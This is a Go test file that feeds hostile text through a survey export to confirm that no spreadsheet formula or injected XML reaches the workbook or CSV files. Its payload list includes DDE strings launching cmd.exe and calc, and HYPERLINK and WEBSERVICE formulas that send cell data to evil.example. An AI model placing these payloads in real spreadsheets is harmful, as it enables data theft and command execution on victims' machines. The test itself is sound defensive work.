package export

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"html"
	"io"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// payloads are texts a spreadsheet would run, or that try to break out of
// the cell XML: formulas, DDE, and the characters that start them.
var payloads = []string{
	"=1+1", "=SUM(1,1)", "=SUM(1;1)", "==1", "=+1", "=-1", "=A1", "=Sheet1!A1", "='Data'!A1",
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`, `=HYPERLINK("javascript:alert(1)")`,
	`=cmd|' /C calc'!A0`, `=rundll32|'URL.dll,FileProtocolHandler calc.exe'!A0`, `=MSEXCEL|'\..\..\Windows\System32\cmd.exe'!''`,
	`=WEBSERVICE("http://evil.example")`, `=IMPORTXML("http://evil.example","//a")`, `=INDIRECT("A1")`, `=EXEC("calc")`,
	"=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=TODAY()", "=NOW()", "=RAND()", "=CHAR(65)&CHAR(66)",
	"+1", "+1+1", "+SUM(A1:A9)", `+cmd|' /C notepad'!A0`, "+44 20 7946 0000", "++1",
	"-1", "-1+1", "-2+3+cmd|' /C calc'!A0", `-cmd|' /C notepad'!A0`, "--1", "- bullet point",
	"@SUM(1,1)", "@A1", `@cmd|' /C calc'!A0`, "@everyone", "@",
	"\t=1+1", "\t+1", "\t", "\r=1+1", "\r-1", "=", "+", "-",
	"=1+1 🙂 ŵŷ", "=\"\"", "=1\n=2", "<f>1+1</f>", "</t></is><f>1+1</f><is><t>", "<![CDATA[=1+1]]>", "&lt;f&gt;=1&lt;/f&gt;",
}

// benign texts must come back exactly as written.
var benign = []string{
	"Mae angen mwy o amser ymchwil arnom – ŵ ŷ â ê î ô û ë ï ö",
	"Emoji 🙂👩‍⚕️🏥 and CJK 研究時間",
	"line one\nline two\n\nline four",
	"  leading and trailing spaces  ",
	"tab\tinside",
	`quote " and ' apostrophe, comma; semicolon`,
	"<b>not bold</b> & &amp; 1 < 2",
	"'already quoted",
}

// hostile rewrites a questionnaire's texts with payloads: questions,
// statements, option labels, group and derived labels (which name chart
// series and titles), taking payloads in turn.
func hostile(t *testing.T, file string) string {
	t.Helper()
	return hostileWith(t, file, payloads)
}

// hostileWith rewrites a questionnaire's texts with the given texts,
// taking them in turn.
func hostileWith(t *testing.T, file string, payloads []string) string {
	t.Helper()
	src, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	next := 0
	quote := func() string { // questionnaire texts cannot be blank
		for strings.TrimSpace(payloads[next%len(payloads)]) == "" {
			next++
		}
		b, _ := json.Marshal(payloads[next%len(payloads)])
		next++
		return string(b)
	}
	lines := strings.Split(string(src), "\n")
	textKey := regexp.MustCompile(`^(\s*(?:- )?(?:question|label|text|title): )(.+)$`)
	inline := regexp.MustCompile(`(label|text): ("[^"]*"|[^,}]+)`)
	for i, line := range lines {
		if m := textKey.FindStringSubmatch(line); m != nil {
			lines[i] = m[1] + quote()
			continue
		}
		lines[i] = inline.ReplaceAllStringFunc(line, func(s string) string {
			key, _, _ := strings.Cut(s, ":")
			return key + ": " + quote()
		})
	}
	out := t.TempDir() + "/hostile.yaml"
	if err := os.WriteFile(out, []byte(strings.Join(lines, "\n")), 0o644); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestNoFormulaFromUserData: with payloads in answers, "please specify"
// texts, questions, statements, option labels, group labels and the
// review's title, no sheet holds a formula, every chart reference is one
// the export made, no text cell starts with a character that starts a
// formula, every payload reaches the workbook with an apostrophe added,
// and other text comes back exactly. The CSV files follow the same rule.
func TestNoFormulaFromUserData(t *testing.T) {
	if len(payloads) < 50 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	for _, file := range []string{bundledFile, careersFile} {
		t.Run(file, func(t *testing.T) {
			f := newFixture(t)
			q := loadQuestionnaire(t, hostile(t, file))
			rev := f.review("hostile", `=HYPERLINK("http://evil.example","Research 2026")`, q, 5)
			g := newGenerator(q, 8, f.trusts)
			g.texts = append(append([]string(nil), payloads...), benign...)
			f.load(g.responses("r", 300), rev)
			data := f.workbook(Options{Review: "hostile", IncludeExcluded: true})
			checkNoFormulas(t, data)
			texts := checkTextCells(t, openWorkbook(t, data))
			for _, p := range payloads {
				if !texts[safe(p)] {
					t.Errorf("payload %q does not reach the workbook as %q", p, safe(p))
				}
			}
			for _, s := range benign {
				if !texts[s] {
					t.Errorf("text %q does not come back exactly", s)
				}
			}
			csvData, codebook := f.csvExport(Options{Review: "hostile", IncludeExcluded: true})
			for name, b := range map[string][]byte{"data CSV": csvData, "codebook CSV": codebook} {
				for _, rec := range readCSV(t, name, b) {
					for _, v := range rec {
						if _, err := strconv.ParseFloat(v, 64); err != nil && v != "" && strings.IndexByte(formulaStarts, v[0]) >= 0 {
							t.Errorf("%s field %q starts a formula", name, v)
						}
					}
				}
			}
		})
	}
}

// checkNoFormulas unzips the workbook: no sheet has a formula element,
// and every chart formula is a reference to a range of its own sheet.
func checkNoFormulas(t *testing.T, data []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	chartRef := regexp.MustCompile(`^'(Barriers|Motivators|Enablers|Organisational support)'!\$[A-Z]+\$[0-9]+(:\$[A-Z]+\$[0-9]+)?$`)
	chartF := regexp.MustCompile(`<(?:c:)?f>([^<]*)</(?:c:)?f>`)
	sheets, charts := 0, 0
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		x := string(b)
		switch {
		case strings.HasPrefix(zf.Name, "xl/worksheets/sheet"):
			sheets++
			if strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
				t.Errorf("%s holds a formula", zf.Name)
			}
		case strings.HasPrefix(zf.Name, "xl/charts/chart"):
			charts++
			refs := chartF.FindAllStringSubmatch(x, -1)
			if len(refs) == 0 {
				t.Errorf("%s has no references", zf.Name)
			}
			for _, m := range refs {
				if ref := html.UnescapeString(m[1]); !chartRef.MatchString(ref) {
					t.Errorf("%s refers to %q", zf.Name, ref)
				}
			}
		}
	}
	if sheets < 10 || charts == 0 {
		t.Errorf("%d sheets and %d charts in the workbook", sheets, charts)
	}
}

// checkTextCells reads every cell back: no text cell starts with a
// character that starts a formula. It returns the set of text values.
func checkTextCells(t *testing.T, wb *excelize.File) map[string]bool {
	t.Helper()
	texts := map[string]bool{}
	for _, s := range wb.GetSheetList() {
		for r, row := range readGrid(t, wb, s) {
			for c, x := range row {
				if x.value == "" || x.number {
					continue
				}
				if strings.IndexByte(formulaStarts, x.value[0]) >= 0 {
					t.Errorf("%s row %d column %d starts a formula: %q", s, r+1, c+1, x.value)
				}
				texts[x.value] = true
			}
		}
	}
	return texts
}
